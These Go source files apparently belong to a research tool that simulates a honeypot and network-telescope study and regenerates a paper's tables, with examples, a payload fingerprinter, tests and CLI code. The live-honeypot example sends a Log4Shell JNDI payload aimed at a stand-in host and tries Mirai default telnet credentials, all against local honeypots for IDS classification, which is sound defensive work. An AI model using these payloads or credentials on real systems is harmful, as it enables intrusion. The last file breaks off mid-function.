// Scenarios: the same measurement platform pointed at different
// adversarial worlds. The scenario registry makes the actor population
// a first-class axis: this example enumerates the registered packs,
// runs the identical deployment under each, and compares what the
// paper's headline instruments see — how a finding measured under the
// baseline week would shift if the attacker mix changed.
package main

import (
	"fmt"
	"log"

	"cloudwatch"
	"cloudwatch/internal/core"
)

func main() {
	fmt.Println("registered scenario packs:")
	for _, id := range cloudwatch.Scenarios() {
		fmt.Printf("  %-16s %s\n", id, cloudwatch.ScenarioDescription(id))
	}
	fmt.Println()

	// One quick study per scenario: same seed, same deployment, same
	// week — only the population builder differs, so every delta below
	// is attributable to the adversarial mix.
	fmt.Printf("%-16s %7s %9s %14s %12s %12s\n",
		"scenario", "actors", "records", "telescope-pkts", "ssh-as-diff", "p23-overlap")
	for _, id := range cloudwatch.Scenarios() {
		cfg := cloudwatch.QuickStudy(42, 2021)
		cfg.Actors.Scenario = id
		study, err := cloudwatch.Run(cfg)
		if err != nil {
			log.Fatal(err)
		}

		// Table 2's headline: fraction of SSH/22 neighborhoods whose
		// top ASes differ (the paper's 28% discrimination finding).
		var sshASDiff float64
		for _, cell := range study.Table2().Cells {
			if cell.Slice == core.SliceSSH22 && cell.Characteristic == core.CharTopAS {
				sshASDiff = cell.FractionDifferent
			}
		}
		// Table 8's headline: how much of the cloud-visible port 23
		// population the telescope also sees (the avoidance finding —
		// stealthy actors shrink it, indiscriminate floods restore it).
		var p23Overlap float64
		for _, row := range study.Table8().Rows {
			if row.Port == 23 {
				p23Overlap = row.TelCloudFrac
			}
		}
		fmt.Printf("%-16s %7d %9d %14d %11.1f%% %11.1f%%\n",
			id, len(study.Actors), study.NumRecords(), study.Tel.Packets(),
			100*sshASDiff, 100*p23Overlap)
	}

	// The scenario is part of a study's identity end to end: a durable
	// store written under one pack refuses to serve another, and the
	// sweep server tags every cell with the world it came from. See the
	// streamstudy example and README "Scenario packs" for that half.
	fmt.Println("\n(scenario ids thread through -scenario, /v1/sweep, and the durable store)")
}
