// Quickstart: run a scaled-down collection week, then look at the two
// headline findings — neighboring honeypots receive significantly
// different traffic (Table 2), and scanners that target real services
// avoid the network telescope (Table 8).
package main

import (
	"fmt"
	"log"

	"cloudwatch"
)

func main() {
	study, err := cloudwatch.Run(cloudwatch.QuickStudy(42, 2021))
	if err != nil {
		log.Fatal(err)
	}

	fmt.Printf("collected %d honeypot records and %d telescope packets from %d actors\n\n",
		study.NumRecords(), study.Tel.Packets(), len(study.Actors))

	fmt.Println(study.Table1().Render())
	fmt.Println(study.Table2().Render())
	fmt.Println(study.Table8().Render())
}
