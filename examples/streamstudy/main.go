// Streamstudy: drive the streaming study engine by hand — partition a
// collection week into epochs, ingest them one at a time watching a
// finding sharpen as data accumulates, then run a top-K sweep over
// every epoch prefix the way the sweep server does.
package main

import (
	"fmt"
	"log"

	"cloudwatch"
)

func main() {
	// Partition a scaled-down 2021 week into 6 epochs. Generation runs
	// the full sharded pipeline once; nothing is ingested yet.
	eng, err := cloudwatch.NewStream(cloudwatch.StreamConfig{
		Study:  cloudwatch.QuickStudy(42, 2021),
		Epochs: 6,
	})
	if err != nil {
		log.Fatal(err)
	}

	// Ingest epoch by epoch. Every prefix snapshot is a full study —
	// byte-identical to a batch run truncated at the epoch boundary —
	// so any experiment renders on partial data.
	fmt.Println("ingesting the week epoch by epoch:")
	for {
		p, ok, err := eng.IngestNext()
		if err != nil {
			log.Fatal(err)
		}
		if !ok {
			break
		}
		start, end := eng.Window(p - 1)
		snap, err := eng.Snapshot(p)
		if err != nil {
			log.Fatal(err)
		}
		// Watch Table 2's headline number (SSH/22 neighborhoods whose
		// top ASes differ) firm up as the window grows.
		var sshASDiff float64
		for _, cell := range snap.Table2().Cells {
			if cell.Slice.String() == "SSH/22" && cell.Characteristic.String() == "Top 3 AS" {
				sshASDiff = cell.FractionDifferent
			}
		}
		fmt.Printf("  epoch %d [%s .. %s): %6d records so far, SSH/22 AS-different neighborhoods: %4.1f%%\n",
			p, start.Format("Mon 15:04"), end.Format("Mon 15:04"),
			snap.NumRecords(), 100*sshASDiff)
	}

	// Sweep the §3.3 top-K width across every ingested prefix — the
	// footnote-2 sensitivity question ("does K change the finding?")
	// asked of every point in time at once. Interned summaries are
	// shared across K, so the grid renders in milliseconds.
	res, err := eng.Sweep(cloudwatch.SweepRequest{
		Tables: []string{"table2", "table5"},
		KMin:   1,
		KMax:   10,
	})
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("\nswept %d renders (%d prefixes x K=1..10 x 2 tables) in %.0f ms — %.0f renders/sec\n",
		res.Renders, eng.Ingested(), 1000*res.Seconds, res.RendersPerSec)

	// The full-week snapshot at the paper's K=3 is the ordinary batch
	// study; print its Table 2 as the finished result.
	final, err := eng.Snapshot(eng.NumEpochs())
	if err != nil {
		log.Fatal(err)
	}
	fmt.Println()
	fmt.Println(final.Table2().Render())
}
