// Live honeypot: start real TCP honeypot daemons on loopback ports, run
// a scripted scanner against them (Telnet login attempts, an SSH
// banner, an HTTP exploit), and classify what was captured with the
// IDS engine and the protocol fingerprinter — the full §3.2
// malicious-traffic pipeline over actual sockets.
package main

import (
	"bufio"
	"context"
	"fmt"
	"log"
	"net"
	"strings"
	"sync"
	"time"

	"cloudwatch"
	"cloudwatch/internal/fingerprint"
	"cloudwatch/internal/ids"
	"cloudwatch/internal/netsim"
)

func main() {
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()

	var mu sync.Mutex
	var records []netsim.Record
	onRecord := func(r netsim.Record) {
		mu.Lock()
		defer mu.Unlock()
		records = append(records, r)
	}

	telnetAddr := startDaemon(ctx, cloudwatch.HoneypotConfig{
		Vantage: "live:telnet", Mode: cloudwatch.ModeTelnet, OnRecord: onRecord,
	})
	sshAddr := startDaemon(ctx, cloudwatch.HoneypotConfig{
		Vantage: "live:ssh", Mode: cloudwatch.ModeSSH, OnRecord: onRecord,
	})
	httpAddr := startDaemon(ctx, cloudwatch.HoneypotConfig{
		Vantage: "live:http", Mode: cloudwatch.ModeFirstPayload, OnRecord: onRecord,
	})

	// --- scripted scanner ---------------------------------------------------
	// 1. Mirai-style telnet bruteforce.
	conn := dial(telnetAddr)
	br := bufio.NewReader(conn)
	expect(br, "login: ")
	conn.Write([]byte("root\r\n"))
	expect(br, "Password: ")
	conn.Write([]byte("xc3511\r\n"))
	expect(br, "login: ")
	conn.Write([]byte("admin\r\n"))
	expect(br, "Password: ")
	conn.Write([]byte("admin\r\n"))
	conn.Close()

	// 2. SSH banner grab.
	conn = dial(sshAddr)
	banner, _ := bufio.NewReader(conn).ReadString('\n')
	fmt.Printf("honeypot SSH banner: %s", banner)
	conn.Write([]byte("SSH-2.0-masscan_scanner\r\n"))
	conn.Close()

	// 3. Log4Shell exploit over HTTP.
	conn = dial(httpAddr)
	conn.Write([]byte("GET /?x=${jndi:ldap://evil/a} HTTP/1.1\r\nHost: victim\r\n\r\n"))
	conn.Close()

	// 4. An unexpected protocol on the HTTP port (§6).
	conn = dial(httpAddr)
	conn.Write(fingerprint.Probe(fingerprint.TLS))
	conn.Close()

	waitFor(&mu, &records, 4)

	// --- analysis -------------------------------------------------------------
	engine := ids.DefaultEngine()
	fmt.Println("\ncaptured records:")
	mu.Lock()
	defer mu.Unlock()
	for _, rec := range records {
		var verdict []string
		if len(rec.Creds) > 0 {
			verdict = append(verdict, fmt.Sprintf("login attempts=%d (malicious: bypasses authentication)", len(rec.Creds)))
		}
		if len(rec.Payload) > 0 {
			proto := fingerprint.Identify(rec.Payload)
			verdict = append(verdict, "protocol="+proto.String())
			for _, alert := range engine.Match("tcp", 80, rec.Payload) {
				verdict = append(verdict, "alert="+alert.Msg)
			}
		}
		if len(verdict) == 0 {
			verdict = append(verdict, "no payload (connection only)")
		}
		fmt.Printf("  %-12s %s\n", rec.Vantage, strings.Join(verdict, "; "))
	}
}

func startDaemon(ctx context.Context, cfg cloudwatch.HoneypotConfig) string {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		log.Fatal(err)
	}
	d := cloudwatch.NewHoneypot(cfg)
	go d.Serve(ctx, ln)
	return ln.Addr().String()
}

func dial(addr string) net.Conn {
	conn, err := net.Dial("tcp", addr)
	if err != nil {
		log.Fatal(err)
	}
	conn.SetDeadline(time.Now().Add(5 * time.Second))
	return conn
}

func expect(br *bufio.Reader, marker string) {
	var got []byte
	for !strings.HasSuffix(string(got), marker) {
		b, err := br.ReadByte()
		if err != nil {
			log.Fatalf("waiting for %q: %v (got %q)", marker, err, got)
		}
		got = append(got, b)
	}
}

func waitFor(mu *sync.Mutex, records *[]netsim.Record, n int) {
	deadline := time.Now().Add(5 * time.Second)
	for time.Now().Before(deadline) {
		mu.Lock()
		if len(*records) >= n {
			mu.Unlock()
			return
		}
		mu.Unlock()
		time.Sleep(20 * time.Millisecond)
	}
	log.Fatalf("timed out waiting for %d records", n)
}
