// Geographic bias (§5.1): attackers discriminate within Asia Pacific
// but not within the US or EU. This example reproduces Tables 4 and 5
// and then drills into the specific regional behaviors the paper
// calls out: the Huawei credential campaign against AWS Australia, and
// the Mumbai-only HTTP POST campaign from Emirates Internet.
package main

import (
	"fmt"
	"log"

	"cloudwatch"
	"cloudwatch/internal/core"
)

func main() {
	study, err := cloudwatch.Run(cloudwatch.QuickStudy(42, 2021))
	if err != nil {
		log.Fatal(err)
	}

	fmt.Println(study.Table4().Render())
	fmt.Println(study.Table5().Render())

	// The AWS Australia telnet dictionary: "honeypots within the AWS
	// Australia region ... are most targeted with 'mother' and
	// 'e8ehome'".
	fmt.Println("Top telnet usernames by region:")
	for _, region := range []string{"aws:ap-sydney", "aws:eu-paris", "aws:us-oregon"} {
		views := regionViews(study, region, core.SliceTelnet23)
		merged := core.GroupView(views)
		fmt.Printf("  %-16s %v\n", region, merged.Usernames.TopK(3))
	}

	// Emirates Internet (AS5384) POSTs only toward Mumbai.
	fmt.Println("\nEmirates Internet (AS5384) presence by region:")
	for _, region := range []string{"aws:ap-mumbai", "linode:ap-mumbai", "aws:ap-singapore", "aws:us-oregon"} {
		views := regionViews(study, region, core.SliceHTTP80)
		merged := core.GroupView(views)
		fmt.Printf("  %-18s %.0f packets\n", region, merged.AS["AS5384 Emirates Internet"])
	}
}

func regionViews(study *cloudwatch.Study, region string, slice core.ProtocolSlice) []*core.View {
	var views []*core.View
	for _, t := range study.U.Region(region) {
		views = append(views, study.VantageView(t.ID, slice))
	}
	return views
}
