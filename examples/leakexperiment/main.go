// Leak experiment (§4.3): deploy control, previously-leaked, and
// leaked honeypot groups; let Censys/Shodan index exactly what each
// group allows; measure how much more traffic the indexed services
// attract (Table 3). The example also inspects the raw mechanics: what
// each engine indexed and how spiky the leaked services' traffic is.
package main

import (
	"fmt"
	"log"
	"strings"

	"cloudwatch"
	"cloudwatch/internal/core"
	"cloudwatch/internal/stats"
)

func main() {
	study, err := cloudwatch.Run(cloudwatch.QuickStudy(7, 2021))
	if err != nil {
		log.Fatal(err)
	}

	fmt.Println(study.Table3().Render())

	// What did the engines actually index?
	fmt.Printf("censys indexed %d services, shodan %d\n\n", study.Censys.Size(), study.Shodan.Size())

	// Traffic spikes: leaked services see bursty hours, the control
	// group does not (the paper's KS-star mechanism).
	spikes := func(region string, port uint16, slice core.ProtocolSlice) (float64, int) {
		var hourly []float64
		n := 0
		for _, t := range study.U.Targets() {
			if !strings.HasPrefix(t.Region, region) {
				continue
			}
			if region == "stanford:leak:leaked" && t.LeakPort != port {
				continue
			}
			n++
			v := study.VantageView(t.ID, slice)
			if hourly == nil {
				hourly = make([]float64, len(v.Hourly))
			}
			for h := range v.Hourly {
				hourly[h] += v.Hourly[h]
			}
		}
		if n == 0 {
			return 0, 0
		}
		for h := range hourly {
			hourly[h] /= float64(n)
		}
		return stats.Mean(hourly), stats.SpikeCount(hourly, 3, 2)
	}

	services := []struct {
		port  uint16
		slice core.ProtocolSlice
	}{
		{80, core.SliceHTTP80},
		{22, core.SliceSSH22},
		{23, core.SliceTelnet23},
	}
	for _, svc := range services {
		leakedMean, leakedSpikes := spikes("stanford:leak:leaked", svc.port, svc.slice)
		controlMean, controlSpikes := spikes("stanford:leak:control", svc.port, svc.slice)
		fmt.Printf("port %d: leaked %.2f/h (%d spike hours) vs control %.2f/h (%d spike hours)\n",
			svc.port, leakedMean, leakedSpikes, controlMean, controlSpikes)
	}
}
