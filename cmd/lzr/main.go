// Command lzr fingerprints first payloads independent of destination
// port, in the spirit of the LZR scanner the paper uses (§6). It reads
// a payload from stdin (or each line of a file as a separate payload
// with -lines) and reports the identified protocol, plus whether the
// payload is unexpected for a given port.
//
// Usage:
//
//	printf 'GET / HTTP/1.1\r\n\r\n' | lzr -port 8080
//	lzr -lines payloads.txt
package main

import (
	"bufio"
	"flag"
	"fmt"
	"io"
	"os"

	"cloudwatch/internal/fingerprint"
)

func main() {
	var (
		port  = flag.Int("port", 0, "destination port for expected-protocol comparison (0 = skip)")
		lines = flag.String("lines", "", "file with one payload per line (supports \\r\\n escapes)")
	)
	flag.Parse()

	if *lines != "" {
		f, err := os.Open(*lines)
		if err != nil {
			fmt.Fprintln(os.Stderr, "lzr:", err)
			os.Exit(1)
		}
		defer f.Close()
		sc := bufio.NewScanner(f)
		sc.Buffer(make([]byte, 0, 64*1024), 1024*1024)
		for sc.Scan() {
			payload := unescape(sc.Text())
			report(payload, *port)
		}
		if err := sc.Err(); err != nil {
			fmt.Fprintln(os.Stderr, "lzr:", err)
			os.Exit(1)
		}
		return
	}

	payload, err := io.ReadAll(io.LimitReader(os.Stdin, 1<<20))
	if err != nil {
		fmt.Fprintln(os.Stderr, "lzr:", err)
		os.Exit(1)
	}
	report(payload, *port)
}

func report(payload []byte, port int) {
	proto := fingerprint.Identify(payload)
	fmt.Printf("protocol: %s", proto)
	if port > 0 && port <= 65535 {
		expected := fingerprint.Expected(uint16(port))
		fmt.Printf("  expected-on-port-%d: %s", port, expected)
		if fingerprint.IsUnexpected(uint16(port), payload) {
			fmt.Printf("  UNEXPECTED")
		}
	}
	fmt.Println()
}

// unescape expands \r, \n, \t, and \\ so text files can carry protocol
// line endings.
func unescape(s string) []byte {
	out := make([]byte, 0, len(s))
	for i := 0; i < len(s); i++ {
		if s[i] != '\\' || i+1 == len(s) {
			out = append(out, s[i])
			continue
		}
		i++
		switch s[i] {
		case 'r':
			out = append(out, '\r')
		case 'n':
			out = append(out, '\n')
		case 't':
			out = append(out, '\t')
		case '\\':
			out = append(out, '\\')
		default:
			out = append(out, '\\', s[i])
		}
	}
	return out
}
