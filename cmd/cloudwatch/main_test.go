package main

import (
	"reflect"
	"strings"
	"testing"

	"cloudwatch/internal/core"
)

// TestFigureBumpAppliesToAll pins the Figure 1 regression: the
// telescope bump must apply whenever Figure 1 will be rendered, so
// "-experiment all" and "-experiment figure1" build identical studies
// (the same seed used to render two different Figure 1s: 128 /24s
// under "all", 512 under "figure1").
func TestFigureBumpAppliesToAll(t *testing.T) {
	all, allDesc := studyConfig(42, 2021, 1, false, 0, "all", "baseline", false)
	fig, figDesc := studyConfig(42, 2021, 1, false, 0, "figure1", "baseline", false)
	if !reflect.DeepEqual(all, fig) {
		t.Fatalf("configs differ between all and figure1:\n all %+v\n fig %+v", all, fig)
	}
	if all.Deploy.TelescopeSlash24s != figureMinSlash24s {
		t.Fatalf("telescope = %d /24s, want %d (two full /16s)", all.Deploy.TelescopeSlash24s, figureMinSlash24s)
	}
	for _, desc := range []string{allDesc, figDesc} {
		if !strings.Contains(desc, "Figure 1") {
			t.Errorf("deployment description %q does not say which deployment was used", desc)
		}
	}
}

// TestNoBumpForTableExperiments checks table-only runs (including the
// appendix, which renders no figure) keep the default telescope.
func TestNoBumpForTableExperiments(t *testing.T) {
	def := core.DefaultConfig(42, 2021).Deploy.TelescopeSlash24s
	for _, exp := range []string{"table2", "table10", "appendix"} {
		cfg, desc := studyConfig(42, 2021, 1, false, 0, exp, "baseline", false)
		if cfg.Deploy.TelescopeSlash24s != def {
			t.Errorf("%s: telescope = %d /24s, want default %d", exp, cfg.Deploy.TelescopeSlash24s, def)
		}
		if desc != "default deployment" {
			t.Errorf("%s: deployment description = %q", exp, desc)
		}
	}
}

// TestFullFlagScalesWholeDeployment pins the -full fix: paper scale
// means the full Orion telescope and the full HE /24 honeypot fleet,
// not just the telescope.
func TestFullFlagScalesWholeDeployment(t *testing.T) {
	cfg, desc := studyConfig(42, 2021, 1, true, 0, "table2", "baseline", false)
	if cfg.Deploy.TelescopeSlash24s != 1856 {
		t.Errorf("full telescope = %d /24s, want 1856", cfg.Deploy.TelescopeSlash24s)
	}
	if cfg.Deploy.HurricaneIPs != 256 {
		t.Errorf("full HE fleet = %d IPs, want 256", cfg.Deploy.HurricaneIPs)
	}
	if desc != "paper-scale deployment" {
		t.Errorf("deployment description = %q", desc)
	}
	// -full already exceeds the Figure 1 minimum: no further bump.
	fig, _ := studyConfig(42, 2021, 1, true, 0, "figure1", "baseline", false)
	if fig.Deploy.TelescopeSlash24s != 1856 {
		t.Errorf("full+figure1 telescope = %d /24s, want 1856", fig.Deploy.TelescopeSlash24s)
	}
}

// TestServeModeBumpsTelescope pins the serve-mode deployment choice:
// a server's clients can request Figure 1 at any time, so serve mode
// gets the Figure 1 telescope; one-shot sweep mode renders tables only
// and keeps the default.
func TestServeModeBumpsTelescope(t *testing.T) {
	srv, desc := studyConfig(42, 2021, 1, false, 0, "all", "baseline", true)
	if srv.Deploy.TelescopeSlash24s != figureMinSlash24s {
		t.Errorf("serve telescope = %d /24s, want %d", srv.Deploy.TelescopeSlash24s, figureMinSlash24s)
	}
	if !strings.Contains(desc, "Figure 1") {
		t.Errorf("serve deployment description = %q", desc)
	}
	swp, desc := studyConfig(42, 2021, 1, false, 0, "sweep", "baseline", false)
	if def := core.DefaultConfig(42, 2021).Deploy.TelescopeSlash24s; swp.Deploy.TelescopeSlash24s != def {
		t.Errorf("sweep telescope = %d /24s, want default %d", swp.Deploy.TelescopeSlash24s, def)
	}
	if desc != "default deployment" {
		t.Errorf("sweep deployment description = %q", desc)
	}
}

// TestSweepFlagValidation exercises the sweep-flag validation: bad
// values are rejected with errors that enumerate the valid ones.
func TestSweepFlagValidation(t *testing.T) {
	good := sweepFlags{epochs: 8, tables: "table2,table5", kMin: 1, kMax: 10, prefixes: "all"}
	req, err := good.sweepRequest()
	if err != nil {
		t.Fatal(err)
	}
	if len(req.Tables) != 2 || req.KMin != 1 || req.KMax != 10 || req.Prefixes != nil {
		t.Fatalf("request = %+v", req)
	}

	bad := good
	bad.tables = "table2,table3"
	if _, err := bad.sweepRequest(); err == nil || !strings.Contains(err.Error(), "table10") {
		t.Errorf("unknown table error should list valid tables, got %v", err)
	}
	bad = good
	bad.kMin, bad.kMax = 4, 2
	if _, err := bad.sweepRequest(); err == nil {
		t.Error("inverted K range accepted")
	}
	bad = good
	bad.prefixes = "1,99"
	if _, err := bad.sweepRequest(); err == nil || !strings.Contains(err.Error(), "1..8") {
		t.Errorf("out-of-range prefix error should name the range, got %v", err)
	}
	bad = good
	bad.epochs = 0
	if _, err := bad.sweepRequest(); err == nil {
		t.Error("zero epochs accepted")
	}
	explicit := good
	explicit.prefixes = "2, 4"
	req, err = explicit.sweepRequest()
	if err != nil {
		t.Fatal(err)
	}
	if len(req.Prefixes) != 2 || req.Prefixes[0] != 2 || req.Prefixes[1] != 4 {
		t.Fatalf("explicit prefixes = %v", req.Prefixes)
	}
}

// TestKnownExperiment pins the accepted -experiment values, including
// the streaming sweep mode.
func TestKnownExperiment(t *testing.T) {
	for _, name := range []string{"table1", "table11", "figure1", "appendix", "all", "sweep"} {
		if !knownExperiment(name) {
			t.Errorf("%q rejected", name)
		}
	}
	for _, name := range []string{"table12", "bogus", ""} {
		if knownExperiment(name) {
			t.Errorf("%q accepted", name)
		}
	}
	if v := validExperiments(); !strings.Contains(v, "sweep") || !strings.Contains(v, "table11") {
		t.Errorf("validExperiments() = %q", v)
	}
}

// TestParseScenarios pins the -scenario flag validation: unknown ids
// are rejected with the registered ids enumerated (the -experiment
// pattern), lists are sweep-only, and the empty value means baseline.
func TestParseScenarios(t *testing.T) {
	ids, err := parseScenarios("baseline", false)
	if err != nil || len(ids) != 1 || ids[0] != "baseline" {
		t.Fatalf("baseline: ids=%v err=%v", ids, err)
	}
	if ids, err = parseScenarios("", false); err != nil || len(ids) != 1 || ids[0] != "baseline" {
		t.Fatalf("empty value should mean baseline: ids=%v err=%v", ids, err)
	}
	if _, err = parseScenarios("bogus", false); err == nil ||
		!strings.Contains(err.Error(), "stealth") || !strings.Contains(err.Error(), "attack-platform") {
		t.Errorf("unknown scenario error should enumerate registered ids, got %v", err)
	}
	if _, err = parseScenarios("baseline,stealth", false); err == nil {
		t.Error("multi-scenario list accepted outside sweep mode")
	}
	ids, err = parseScenarios("baseline, stealth, baseline", true)
	if err != nil || len(ids) != 2 || ids[0] != "baseline" || ids[1] != "stealth" {
		t.Errorf("sweep list should dedup and trim: ids=%v err=%v", ids, err)
	}
	ids, err = parseScenarios("burst-ddos", true)
	if err != nil || len(ids) != 1 || ids[0] != "burst-ddos" {
		t.Errorf("burst-ddos: ids=%v err=%v", ids, err)
	}
}

// TestScenarioThreadsIntoStudyConfig checks the flag value lands in
// the study configuration (and thereby in store identity).
func TestScenarioThreadsIntoStudyConfig(t *testing.T) {
	cfg, _ := studyConfig(42, 2021, 1, false, 0, "table2", "stealth", false)
	if cfg.Actors.Scenario != "stealth" {
		t.Fatalf("Actors.Scenario = %q, want stealth", cfg.Actors.Scenario)
	}
	if cfg.Scenario() != "stealth" {
		t.Fatalf("cfg.Scenario() = %q", cfg.Scenario())
	}
}

// TestAllAndFigure1RenderIdenticalFigure1 is the end-to-end
// regression: the same seed renders the same Figure 1 whether it was
// requested via "figure1" or as part of "all". Reduced actor scale
// keeps the two 512-/24 studies fast.
func TestAllAndFigure1RenderIdenticalFigure1(t *testing.T) {
	cfgAll, _ := studyConfig(42, 2021, 0.1, false, 0, "all", "baseline", false)
	cfgFig, _ := studyConfig(42, 2021, 0.1, false, 0, "figure1", "baseline", false)
	sAll, err := core.Run(cfgAll)
	if err != nil {
		t.Fatal(err)
	}
	sFig, err := core.Run(cfgFig)
	if err != nil {
		t.Fatal(err)
	}
	a, b := sAll.Figure1().Render(), sFig.Figure1().Render()
	if a != b {
		t.Errorf("Figure 1 differs between -experiment all and -experiment figure1:\nall:\n%s\nfigure1:\n%s", a, b)
	}
	if !strings.Contains(a, "port 22") {
		t.Error("Figure 1 render missing panels")
	}
}
