// Command cloudwatch regenerates the tables and figures of "Cloud
// Watching: Understanding Attacks Against Cloud-Hosted Services"
// (IMC 2023) from a simulated collection week.
//
// Usage:
//
//	cloudwatch -experiment all            # every table and figure
//	cloudwatch -experiment table8         # one experiment
//	cloudwatch -year 2020 -experiment table2   # Appendix C variant
//	cloudwatch -full                      # paper-scale deployment (slower)
package main

import (
	"flag"
	"fmt"
	"os"
	"strings"

	"cloudwatch/internal/core"
)

// figureMinSlash24s is the smallest telescope that renders Figure 1
// faithfully: two full /16s of darknet.
const figureMinSlash24s = 512

// rendersFigure1 reports whether an experiment selection will render
// Figure 1 — the figure experiments themselves or the "all" sweep,
// which ends with Figure 1. ("appendix" renders tables only.)
func rendersFigure1(experiment string) bool {
	return experiment == "all" || strings.HasPrefix(experiment, "figure")
}

// studyConfig assembles the study configuration for one CLI
// invocation and describes the deployment it chose. The Figure 1
// telescope bump applies whenever Figure 1 will be rendered — under
// "-experiment all" just as under "-experiment figure1" — so the same
// seed produces the same Figure 1 regardless of how it was requested.
func studyConfig(seed int64, year int, scale float64, full bool, workers int, experiment string) (core.Config, string) {
	cfg := core.DefaultConfig(seed, year)
	cfg.Actors.Scale = scale
	cfg.Workers = workers
	deployment := "default deployment"
	if full {
		cfg.Deploy = cfg.Deploy.AtPaperScale()
		deployment = "paper-scale deployment"
	}
	if rendersFigure1(experiment) && cfg.Deploy.TelescopeSlash24s < figureMinSlash24s {
		cfg.Deploy.TelescopeSlash24s = figureMinSlash24s
		deployment = "Figure 1 deployment (telescope bumped to two full /16s)"
	}
	return cfg, deployment
}

func main() {
	var (
		seed       = flag.Int64("seed", 42, "simulation seed (all results are deterministic per seed)")
		year       = flag.Int("year", 2021, "dataset year: 2020, 2021, or 2022 (Appendix C variants)")
		experiment = flag.String("experiment", "all", "experiment to run: table1..table11, figure1, appendix, all")
		scale      = flag.Float64("scale", 1.0, "actor population scale")
		full       = flag.Bool("full", false, "use the paper's Table 1 deployment scale: full Orion telescope (1856 /24s) and full HE /24 honeypot fleet (256 IPs) instead of the 128/64 defaults (slower)")
		workers    = flag.Int("workers", 0, "pipeline workers sharding the actor population (0 = GOMAXPROCS); results are identical for every count")
	)
	flag.Parse()

	cfg, deployment := studyConfig(*seed, *year, *scale, *full, *workers, *experiment)

	fmt.Fprintf(os.Stderr, "running %d study (seed %d, %s, telescope %d /24s)...\n",
		*year, *seed, deployment, cfg.Deploy.TelescopeSlash24s)
	study, err := core.Run(cfg)
	if err != nil {
		fmt.Fprintln(os.Stderr, "error:", err)
		os.Exit(1)
	}
	fmt.Fprintf(os.Stderr, "collected %d honeypot records, %d telescope packets\n\n",
		study.NumRecords(), study.Tel.Packets())

	experiments := map[string]func() string{
		"table1":  func() string { return study.Table1().Render() },
		"table2":  func() string { return study.Table2().Render() },
		"table3":  func() string { return study.Table3().Render() },
		"table4":  func() string { return study.Table4().Render() },
		"table5":  func() string { return study.Table5().Render() },
		"table6":  func() string { return study.Table6().Render() },
		"table7":  func() string { return study.Table7().Render() },
		"table8":  func() string { return study.Table8().Render() },
		"table9":  func() string { return study.Table9().Render() },
		"table10": func() string { return study.Table10().Render() },
		"table11": func() string { return study.Table11().Render() },
		"figure1": func() string { return study.Figure1().Render() },
	}
	order := []string{"table1", "table2", "table3", "table4", "table5", "table6",
		"table7", "table8", "table9", "table10", "table11", "figure1"}

	switch *experiment {
	case "all":
		for _, name := range order {
			fmt.Println(experiments[name]())
		}
	case "appendix":
		// Tables 12-17 are the 2020/2022 variants of tables 2, 5, 7,
		// 10, 4, 11; run this binary with -year 2020 or -year 2022.
		fmt.Println(study.Table2().Render())
		fmt.Println(study.Table5().Render())
		fmt.Println(study.Table7().Render())
		fmt.Println(study.Table10().Render())
		fmt.Println(study.Table4().Render())
		fmt.Println(study.Table11().Render())
	default:
		run, ok := experiments[*experiment]
		if !ok {
			fmt.Fprintf(os.Stderr, "unknown experiment %q; valid: %s, appendix, all\n",
				*experiment, strings.Join(order, ", "))
			os.Exit(2)
		}
		fmt.Println(run())
	}
}
