// Command cloudwatch regenerates the tables and figures of "Cloud
// Watching: Understanding Attacks Against Cloud-Hosted Services"
// (IMC 2023) from a simulated collection week.
//
// Usage:
//
//	cloudwatch -experiment all            # every table and figure
//	cloudwatch -experiment table8         # one experiment
//	cloudwatch -year 2020 -experiment table2   # Appendix C variant
//	cloudwatch -full                      # paper-scale deployment (slower)
//	cloudwatch -experiment sweep -epochs 8 -sweep-kmin 1 -sweep-kmax 10
//	                                      # streaming K/epoch sweep, JSON on stdout
//	cloudwatch -scenario stealth -experiment table2
//	                                      # an alternative adversarial world
//	cloudwatch -scenario baseline,stealth -experiment sweep
//	                                      # scenario axis: one engine per scenario
//	cloudwatch -serve :8080               # long-running snapshot/sweep server
package main

import (
	"context"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"net"
	"net/http"
	"os"
	"os/signal"
	"path/filepath"
	"runtime"
	"runtime/pprof"
	"strconv"
	"strings"
	"syscall"
	"time"

	"cloudwatch/internal/core"
	"cloudwatch/internal/obs"
	"cloudwatch/internal/scanners"
	"cloudwatch/internal/store"
	"cloudwatch/internal/stream"
)

// figureMinSlash24s is the smallest telescope that renders Figure 1
// faithfully: two full /16s of darknet.
const figureMinSlash24s = 512

// rendersFigure1 reports whether an experiment selection may render
// Figure 1 — the figure experiments themselves, the "all" sweep (which
// ends with Figure 1), and serve mode (whose clients can request any
// experiment). ("appendix" and "sweep" render tables only.)
func rendersFigure1(experiment string, serve bool) bool {
	return serve || experiment == "all" || strings.HasPrefix(experiment, "figure")
}

// studyConfig assembles the study configuration for one CLI
// invocation and describes the deployment it chose. The Figure 1
// telescope bump applies whenever Figure 1 may be rendered — under
// "-experiment all" and "-serve" just as under "-experiment figure1" —
// so the same seed produces the same Figure 1 regardless of how it was
// requested.
func studyConfig(seed int64, year int, scale float64, full bool, workers int, experiment, scenario string, serve bool) (core.Config, string) {
	cfg := core.DefaultConfig(seed, year)
	cfg.Actors.Scale = scale
	cfg.Actors.Scenario = scanners.CanonicalScenario(scenario)
	cfg.Workers = workers
	deployment := "default deployment"
	if full {
		cfg.Deploy = cfg.Deploy.AtPaperScale()
		deployment = "paper-scale deployment"
	}
	if rendersFigure1(experiment, serve) && cfg.Deploy.TelescopeSlash24s < figureMinSlash24s {
		cfg.Deploy.TelescopeSlash24s = figureMinSlash24s
		deployment = "Figure 1 deployment (telescope bumped to two full /16s)"
	}
	return cfg, deployment
}

// sweepFlags collects the streaming-mode knobs. Validation is
// separate from flag parsing so the tests can exercise it directly.
type sweepFlags struct {
	epochs   int
	tables   string
	kMin     int
	kMax     int
	prefixes string
}

// sweepRequest validates the sweep flags into an engine request,
// returning errors that enumerate the valid values.
func (f sweepFlags) sweepRequest() (stream.SweepRequest, error) {
	req := stream.SweepRequest{KMin: f.kMin, KMax: f.kMax}
	if f.epochs < 1 {
		return req, fmt.Errorf("-epochs %d: need at least 1 epoch", f.epochs)
	}
	if f.kMin < 1 || f.kMax < f.kMin {
		return req, fmt.Errorf("-sweep-kmin %d -sweep-kmax %d: need 1 <= kmin <= kmax", f.kMin, f.kMax)
	}
	valid := core.SweepTables()
	for _, tbl := range strings.Split(f.tables, ",") {
